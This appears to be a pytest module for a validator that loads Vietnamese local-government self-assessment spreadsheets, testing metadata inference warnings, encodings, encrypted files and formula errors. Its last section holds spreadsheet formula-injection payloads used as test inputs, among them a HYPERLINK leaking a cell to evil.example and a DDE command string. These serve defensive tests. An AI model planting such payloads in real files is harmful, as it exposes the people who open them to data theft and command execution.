"""Issue 9: wrong unit, year or stage never loads without a word, and messages say what happened.

The files are written the way offices write them: built here, then opened and saved by
LibreOffice (Debian's package, run headless), which recalculates formulas (so a failed lookup is
stored as #N/A), writes its own XML and BIFF records, exports CSV in Windows-1258 and UTF-16 and
encrypts with a password. All of them are made once per session (a few soffice runs).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from core.catalogue import indicator_codes
from core.units import registry
from etl.validate import parse_bytes
from tests import files, office

# LibreOffice comes from scripts/system-deps.sh; without it these tests fail rather than skip.
assert office.available(), "LibreOffice is missing: run scripts/system-deps.sh"

CODES = list(indicator_codes())
EXPECTED = {c: v[0] for c, v in files.results().items()}
WORD = {"red": "Đỏ", "yellow": "Vàng", "green": "Xanh"}


def _table(ws, start: int, levels: dict[str, str] | None = None) -> int:
    """The assessment table from row ``start`` (1-based): header, then the 39 indicators."""
    ws.cell(row=start, column=1, value="Mã chỉ số")
    ws.cell(row=start, column=2, value="Tên chỉ số")
    ws.cell(row=start, column=3, value="Mức")
    for i, code in enumerate(CODES, start=start + 1):
        ws.cell(row=i, column=1, value=code)
        ws.cell(row=i, column=2, value="…")
        ws.cell(row=i, column=3, value=WORD[(levels or EXPECTED)[code]])
    return start + len(CODES)


def _save(wb: openpyxl.Workbook, folder: Path, name: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    wb.save(path)
    return path


def _motto(folder: Path) -> list[Path]:
    """A self-assessment whose letterhead carries the national motto, title and motto in one cell."""
    out = []
    for name, title in (
        ("motto-self.xlsx", "BÁO CÁO KẾT QUẢ TỰ ĐÁNH GIÁ NĂM 2023"),
        ("motto-merged.xlsx", "KẾT QUẢ ĐÁNH GIÁ\nĐộc lập - Tự do - Hạnh phúc"),
    ):
        wb = openpyxl.Workbook()
        ws = wb.active
        ws.title = "Báo cáo"
        ws["A1"] = "UBND QUẬN LÊ CHÂN"
        ws["D1"] = "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"
        ws["D2"] = "Độc lập - Tự do - Hạnh phúc"
        ws["A4"] = title
        ws["A5"] = "Đơn vị: Quận Lê Chân"
        ws["A6"] = "Năm: 2023"
        _table(ws, 8)
        out.append(_save(wb, folder, name))
    return out


def _dateline(folder: Path) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Kết quả"
    ws["A1"] = "UBND QUẬN LÊ CHÂN"
    ws["A2"] = "Số: 15/BC-UBND"
    ws["D2"] = "Lê Chân, ngày 10 tháng 01 năm 2024"
    ws["A4"] = "KẾT QUẢ TỰ ĐÁNH GIÁ THEO TCVN ISO 18091:2020 NĂM 2023"
    ws["A5"] = "Đơn vị: Quận Lê Chân"
    _table(ws, 7)
    return _save(wb, folder, "dateline.xlsx")


def _letterhead(folder: Path) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Kết quả"
    ws["A1"] = "UBND HUYỆN VĨNH BẢO"
    ws["A2"] = "UBND XÃ AN HÒA"
    ws["D1"] = "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"
    ws["A4"] = "KẾT QUẢ TỰ ĐÁNH GIÁ NĂM 2023"
    _table(ws, 6)
    return _save(wb, folder, "letterhead.xlsx")


def _instructions(folder: Path) -> Path:
    """An instructions sheet first, with example values and a table of fields; then the real ones."""
    wb = openpyxl.Workbook()
    how = wb.active
    how.title = "Hướng dẫn"
    how["A1"] = "HƯỚNG DẪN ĐIỀN MẪU"
    rows = [
        ("Trường", "Ví dụ"),
        ("Đơn vị", "Phường Cát Dài"),
        ("Năm", 2023),
        ("Giai đoạn", "Tự đánh giá hoặc Thẩm định"),
    ]
    for r, row in enumerate(rows, start=3):
        for c, v in enumerate(row, start=1):
            how.cell(row=r, column=c, value=v)
    info = wb.create_sheet("Thông tin")
    for r, (k, v) in enumerate(
        [
            ("Tỉnh/Thành phố", "Hải Phòng"),
            ("Đơn vị", "Quận Lê Chân"),
            ("Năm", 2022),
            ("Giai đoạn", "Thẩm định"),
        ],
        start=1,
    ):
        info.cell(row=r, column=1, value=k)
        info.cell(row=r, column=2, value=v)
    _table(wb.create_sheet("Đánh giá"), 1)
    return _save(wb, folder, "instructions.xlsx")


def _conflict(folder: Path) -> Path:
    wb = openpyxl.Workbook()
    info = wb.active
    info.title = "Thông tin"
    info["A1"], info["B1"] = "Đơn vị", "Quận Lê Chân"
    info["A2"], info["B2"] = "Năm", 2023
    ws = wb.create_sheet("Đánh giá")
    ws["A1"] = "Năm: 2024"
    _table(ws, 3)
    return _save(wb, folder, "conflict.xlsx")


def _ranges(folder: Path) -> list[Path]:
    out = []
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["A1"] = "KẾT QUẢ TỰ ĐÁNH GIÁ GIAI ĐOẠN 2022-2023"
    ws["A2"] = "Đơn vị: Quận Lê Chân"
    _table(ws, 4)
    out.append(_save(wb, folder, "range-title.xlsx"))
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["A1"], ws["B1"] = "Đơn vị", "Quận Lê Chân"
    ws["A2"], ws["B2"] = "Năm", "2022-2023"
    _table(ws, 4)
    out.append(_save(wb, folder, "range-stated.xlsx"))
    return out


def _lookup(folder: Path) -> Path:
    """Levels looked up from a code table; one code is missing there, so LibreOffice stores #N/A."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Đánh giá"
    ws["A1"], ws["B1"] = "Đơn vị", "Quận Lê Chân"
    ws["A2"], ws["B2"] = "Năm", 2023
    ws["A3"], ws["B3"] = "Giai đoạn", "Tự đánh giá"
    ws["A5"], ws["B5"], ws["C5"], ws["D5"] = "Mã chỉ số", "Mã mức", "Mức", "Điểm"
    table = wb.create_sheet("Bảng mã")
    for r, (k, v) in enumerate((("R", "Đỏ"), ("Y", "Vàng"), ("G", "Xanh")), start=1):
        table.cell(row=r, column=1, value=k)
        table.cell(row=r, column=2, value=v)
    for i, code in enumerate(CODES, start=6):
        ws.cell(row=i, column=1, value=code)
        ws.cell(row=i, column=2, value="Q" if code == "2.3" else EXPECTED[code][0].upper())
        ws.cell(row=i, column=3, value=f"=VLOOKUP(B{i},'Bảng mã'!$A$1:$B$3,2,0)")
        ws.cell(row=i, column=4, value="=1/0" if code == "1.1" else 50)
    return _save(wb, folder, "lookup.xlsx")


TICKS = {"red": "x", "yellow": "✓", "green": "X"}


def _ticks(folder: Path) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["A1"], ws["B1"] = "Đơn vị", "Quận Lê Chân"
    ws["A2"], ws["B2"] = "Năm", 2023
    ws["A3"], ws["B3"] = "Giai đoạn", "Tự đánh giá"
    for c, h in enumerate(("STT", "Mã chỉ số", "Tên chỉ số", "Đỏ", "Vàng", "Xanh", "Ghi chú"), start=1):
        ws.cell(row=5, column=c, value=h)
    col = {"red": 4, "yellow": 5, "green": 6}
    for i, code in enumerate(CODES, start=6):
        ws.cell(row=i, column=1, value=i - 5)
        ws.cell(row=i, column=2, value=code)
        ws.cell(row=i, column=3, value="…")
        ws.cell(row=i, column=col[EXPECTED[code]], value=TICKS[EXPECTED[code]])
    return _save(wb, folder, "ticks.xlsx")


def _for_csv(folder: Path) -> Path:
    """One sheet as the per-unit CSV layout: key/value lines, a blank line, then the table."""
    wb = openpyxl.Workbook()
    ws = wb.active
    for r, (k, v) in enumerate(
        [
            ("Tỉnh/Thành phố", "Hải Phòng"),
            ("Đơn vị", "Huyện Thủy Nguyên"),
            ("Năm", 2023),
            ("Giai đoạn", "Tự đánh giá"),
        ],
        start=1,
    ):
        ws.cell(row=r, column=1, value=k)
        ws.cell(row=r, column=2, value=v)
    _table(ws, 6)
    return _save(wb, folder, "thuy-nguyen.xlsx")


@pytest.fixture(scope="session")
def lo(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every file of this module, as LibreOffice saved it; name -> path (soffice runs in parallel)."""
    from concurrent.futures import ThreadPoolExecutor

    src = tmp_path_factory.mktemp("lo-src")
    out = tmp_path_factory.mktemp("lo-out")
    sources = [*_motto(src), _dateline(src), _letterhead(src), _instructions(src), _conflict(src)]
    sources += [*_ranges(src), _lookup(src), _ticks(src)]
    csv_src = _for_csv(src)
    jobs = {
        "xlsx": lambda: office.convert(sources, "xlsx", out / "xlsx"),
        "xls": lambda: office.convert([src / "lookup.xlsx", src / "ticks.xlsx"], "xls", out / "xls"),
        "ods": lambda: office.convert([src / "ticks.xlsx", src / "letterhead.xlsx"], "ods", out / "ods"),
        # Vietnamese Windows: Windows-1258 with ';' (the list separator of its regional settings).
        "windows-1258": lambda: office.csv_in([csv_src], "windows-1258", out / "windows-1258", delimiter=";"),
        "utf-16": lambda: office.csv_in([csv_src], "utf-16", out / "utf-16"),
        "locked": lambda: office.with_password(
            [(src / "ticks.xlsx", out / "locked.xls", "xls"), (src / "ticks.xlsx", out / "locked.ods", "ods")]
        ),
    }
    with ThreadPoolExecutor(3) as ex:
        done = {k: ex.submit(f) for k, f in jobs.items()}
        made = {}
        for k, fut in done.items():
            for p in fut.result():
                made[f"thuy-nguyen-{k}.csv" if p.suffix == ".csv" else p.name] = p
    # The same text in UTF-8, as Excel's 'CSV UTF-8' writes it (with a BOM).
    utf8 = out / "thuy-nguyen-utf-8.csv"
    utf8.write_bytes(
        b"\xef\xbb\xbf" + made["thuy-nguyen-utf-16.csv"].read_bytes().decode("utf-16").encode("utf-8")
    )
    made[utf8.name] = utf8
    return made


def parse(path: Path, name: str | None = None):
    return parse_bytes(name or path.name, path.read_bytes())


def codes_of(parsed) -> list[str]:
    return [p.code for p in parsed.problems]


def one(parsed, code: str):
    found = [p for p in parsed.problems if p.code == code]
    assert found, [(p.code, p.location, p.message_en) for p in parsed.problems]
    return found[0]


# 1. Wrong data, no warning -------------------------------------------------------------------


def test_the_national_motto_never_names_a_stage(lo):
    parsed = parse(lo["motto-self.xlsx"])
    assert parsed.ok and parsed.assessments[0].stage == "self"
    assert one(parsed, "stage-inferred").location == "Báo cáo!A4"
    merged = parse(lo["motto-merged.xlsx"])
    assert merged.ok and merged.assessments[0].stage == "self"  # no stage stated: the default, said so
    assert codes_of(merged) == ["missing-stage"]


def test_a_date_line_never_beats_the_title_year(lo):
    parsed = parse(lo["dateline.xlsx"])
    assert parsed.ok, codes_of(parsed)
    assert parsed.assessments[0].year == 2023
    warning = one(parsed, "year-inferred")
    assert warning.severity == "warning" and warning.location == "Kết quả!A4"
    assert "2023" in warning.message_vi and "Kết quả!A4" in warning.message_en


@pytest.mark.parametrize("name", ["letterhead.xlsx", "letterhead.ods"])
def test_a_two_line_letterhead_names_the_lowest_unit(lo, name):
    parsed = parse(lo[name])
    assert parsed.ok, [(p.code, p.message_en) for p in parsed.problems]
    unit = parsed.assessments[0].unit
    assert (unit.code, unit.name_with_type, unit.parent_code) == ("11854", "Xã An Hoà", "316")
    warning = one(parsed, "unit-inferred")
    assert warning.location == "Kết quả!A2" and "UBND" not in warning.value
    assert codes_of(parsed).count("year-inferred") == 1


def test_an_instructions_sheet_is_never_read(lo):
    parsed = parse(lo["instructions.xlsx"])
    assert parsed.ok and parsed.problems == [], codes_of(parsed)
    a = parsed.assessments[0]
    assert (a.unit.code, a.year, a.stage) == ("305", 2022, "verified")


def test_two_places_that_disagree_are_an_error_naming_both(lo):
    parsed = parse(lo["conflict.xlsx"])
    assert not parsed.ok
    prob = one(parsed, "metadata-conflict")
    assert (prob.location, prob.value) == ("Đánh giá!A1", "2024")
    assert "Thông tin!B2" in prob.message_vi and "Đánh giá!A1" in prob.message_vi
    assert "'2023'" in prob.message_en and "'2024'" in prob.message_en and "năm" in prob.message_vi


def test_a_year_range_is_not_a_year(lo):
    titled = parse(lo["range-title.xlsx"])
    prob = one(titled, "year-range")
    assert "2022-2023" in prob.value and not titled.ok
    assert "missing-year" not in codes_of(titled)
    stated = parse(lo["range-stated.xlsx"])
    prob = one(stated, "year-range")
    assert prob.location == "Sheet!B2" and "20222023" not in prob.message_vi


def test_inferred_values_are_warnings_shown_with_the_file(lo):
    """Nothing inferred is silent: each inferred field has its own warning, and the file still loads."""
    parsed = parse(lo["letterhead.xlsx"])
    assert {p.code for p in parsed.problems} == {"unit-inferred", "year-inferred", "stage-inferred"}
    assert all(p.severity == "warning" for p in parsed.problems)


# 5. Messages ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["lookup.xlsx", "lookup.xls"])
def test_na_from_a_lookup_is_a_formula_error_not_a_missing_result(lo, name):
    parsed = parse(lo[name])
    errors = [p for p in parsed.problems if p.code == "formula-error"]
    level = next(p for p in errors if p.severity == "error")
    row = 6 + CODES.index("2.3")
    assert (level.location, level.value) == (f"Đánh giá!C{row}", "#N/A")
    assert "tra cứu" in level.message_vi and "formula-no-value" not in codes_of(parsed)
    score = next(p for p in errors if p.severity == "warning")
    assert (score.cell, score.value) == ("D6", "#DIV/0!")
    levels = {r.indicator: r.level for r in parsed.assessments[0].results}
    assert levels["2.3"] is None and {c: v for c, v in levels.items() if c != "2.3"} == {
        c: v for c, v in EXPECTED.items() if c != "2.3"
    }


def test_a_password_protected_file_says_so():
    import msoffcrypto.format.ooxml

    src = files.template(Path(__import__("tempfile").mkdtemp()) / "t.xlsx")
    buf = io.BytesIO()
    with open(src, "rb") as f:
        msoffcrypto.format.ooxml.OOXMLFile(f).encrypt("mat-khau", buf)
    prob = one(parse_bytes("locked.xlsx", buf.getvalue()), "file-encrypted")
    assert "mật khẩu" in prob.message_vi and "password" in prob.message_en


@pytest.mark.parametrize("name", ["locked.xls", "locked.ods"])
def test_files_libreoffice_saved_with_a_password_say_so(lo, name):
    parsed = parse(lo[name])
    assert codes_of(parsed) == ["file-encrypted"]


@pytest.mark.parametrize("enc", ["windows-1258", "utf-16", "utf-8"])
def test_csv_in_the_encodings_vietnamese_windows_writes(lo, enc):
    path = lo[f"thuy-nguyen-{enc}.csv"]
    data = path.read_bytes()
    if enc == "windows-1258":
        assert "Thủy".encode() not in data and b"Th" in data  # really not UTF-8
    if enc == "utf-16":
        assert data[:2] in (b"\xff\xfe", b"\xfe\xff")
    parsed = parse(path)
    assert parsed.ok, [(p.code, p.message_en) for p in parsed.problems]
    a = parsed.assessments[0]
    assert (a.unit.code, a.year) == ("311", 2023)
    assert {r.indicator: r.level for r in a.results} == EXPECTED


def test_cr_only_line_endings_from_old_mac_excel(lo):
    text = lo["thuy-nguyen-utf-8.csv"].read_bytes().decode("utf-8").replace("\r\n", "\n")
    parsed = parse_bytes("mac.csv", text.replace("\n", "\r").encode("utf-8"))
    assert parsed.ok and parsed.assessments[0].unit.code == "311"


def test_no_english_reason_inside_a_vietnamese_message():
    for name, data in [
        ("x.csv", b"\x81\x8d\x8f,\x90\x9d\n"),
        ("x.xlsx", b"PK\x03\x04broken"),
        ("x.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    ]:
        [prob] = parse_bytes(name, data).problems
        assert prob.code == "file-unreadable"
        english = {"CSV is not UTF-8", "BadZipFile", "Error", "not a", "damaged", "file", "reader"}
        assert not [w for w in english if w in prob.message_vi], prob.message_vi


# 6. Smaller -----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["ticks.xlsx", "ticks.xls", "ticks.ods"])
def test_ticks_under_level_columns_give_the_level_of_their_column(lo, name):
    parsed = parse(lo[name])
    assert parsed.ok, [(p.code, p.location) for p in parsed.problems]
    a = parsed.assessments[0]
    assert {r.indicator: r.level for r in a.results} == EXPECTED
    first = a.results[0]
    assert first.cell == {"red": "D6", "yellow": "E6", "green": "F6"}[EXPECTED["1.1"]]


def test_two_ticks_on_one_row_are_an_error(tmp_path, lo):
    wb = openpyxl.load_workbook(lo["ticks.xlsx"])
    ws = wb.active
    ws["D6"], ws["E6"], ws["F6"] = "x", None, "x"
    ws["D7"], ws["E7"], ws["F7"] = None, None, None
    wb.save(tmp_path / "t.xlsx")
    parsed = parse(tmp_path / "t.xlsx")
    assert one(parsed, "several-levels").cell == "D6" and "Đỏ + Xanh" in one(parsed, "several-levels").value
    assert one(parsed, "missing-level").cell == "D7"


def test_a_windows_path_keeps_only_the_file_name(lo, tmp_db):
    from etl.load import load_bytes
    from query.uploads import upload_history

    r = load_bytes("C:\\Users\\ana\\Bao cao\\ticks.xlsx", lo["ticks.xlsx"].read_bytes(), tmp_db, "ana")
    assert r.status == "loaded"
    assert upload_history(tmp_db)["file_name"].tolist() == ["ticks.xlsx"]


def test_duplicate_assessment_compares_the_unit_key_of_its_vintage():
    """'2020:11311' and '2025:11311' are different units: one file may hold both."""
    regs = {"2020": registry("2020"), "2025": registry("2025")}
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(["Mã đơn vị", "Năm", "Mã chỉ số", "Mức"])
    for unit in ("2020:11311", "2025:11311"):
        for code in CODES:
            w.writerow([unit, 2025, code, "Xanh"])
    parsed = parse_bytes("both.csv", out.getvalue().encode(), registries=regs)
    assert parsed.ok, [(p.code, p.message_en) for p in parsed.problems]
    assert sorted(a.unit.locality_id for a in parsed.assessments) == ["2020:11311", "2025:11311"]
    assert registry().units["11311"].name_with_type == "Phường Minh Khai"


# 4. Formula injection -------------------------------------------------------------------------

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
]


def _formulas_in(xlsx: bytes) -> list[str]:
    import re
    import zipfile

    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [
            n
            for n in z.namelist()
            if n.startswith("xl/worksheets/") and re.search(rb"<(?:\w+:)?f[ >]", z.read(n))
        ]


def test_the_marked_copy_of_a_csv_holds_no_live_formula(lo):
    from core.safe_cells import needs_mark
    from etl.annotate import PROBLEM_SHEET, annotate

    text = lo["thuy-nguyen-utf-8.csv"].read_bytes().decode("utf-8")
    lines = text.splitlines()
    for i, attack in enumerate(ATTACKS):  # levels and extra cells with formula text
        row = 6 + i
        code = lines[row].split(",")[0]
        lines[row] = f'{code},…,"{attack.replace(chr(34), chr(34) * 2)}"'
    data = "\n".join(lines).encode("utf-8")
    parsed = parse_bytes("evil.csv", data)
    assert codes_of(parsed).count("bad-level") == len(ATTACKS)
    out = annotate("evil.csv", data, parsed.problems)
    assert _formulas_in(out) == []
    wb = openpyxl.load_workbook(io.BytesIO(out))
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and needs_mark(cell.value.lstrip("'")):
                    assert cell.data_type == "s" and cell.value.startswith("'"), (ws.title, cell.coordinate)
                    seen += 1
    assert seen >= 2 * len(ATTACKS)  # in the copy and in the problem list
    assert wb[PROBLEM_SHEET]["C6"].value.startswith("'=") or wb[PROBLEM_SHEET]["C6"].value.startswith("'")
    # Sent back unchanged, the copy reads as the original values: the same problems, the same values.
    again = parse_bytes("evil-loi.xlsx", out)
    assert [(p.code, p.value) for p in again.problems] == [(p.code, p.value) for p in parsed.problems]


def test_text_values_of_an_xlsx_never_become_formulas_in_the_problem_list(tmp_path):
    from etl.annotate import annotate

    path = files.edit(files.template(tmp_path / "t.xlsx"), {f"C{files.level_row('1.1')}": "x"})
    wb = openpyxl.load_workbook(path)
    cell = wb["Đánh giá"][f"C{files.level_row('1.2')}"]
    cell.value = "=1+1"
    cell.data_type = "s"  # text that looks like a formula, as a cell typed with a leading apostrophe
    wb.save(path)
    parsed = parse(path)
    assert "=1+1" in [p.value for p in parsed.problems]
    out = annotate(path.name, path.read_bytes(), parsed.problems)
    assert _formulas_in(out) == []
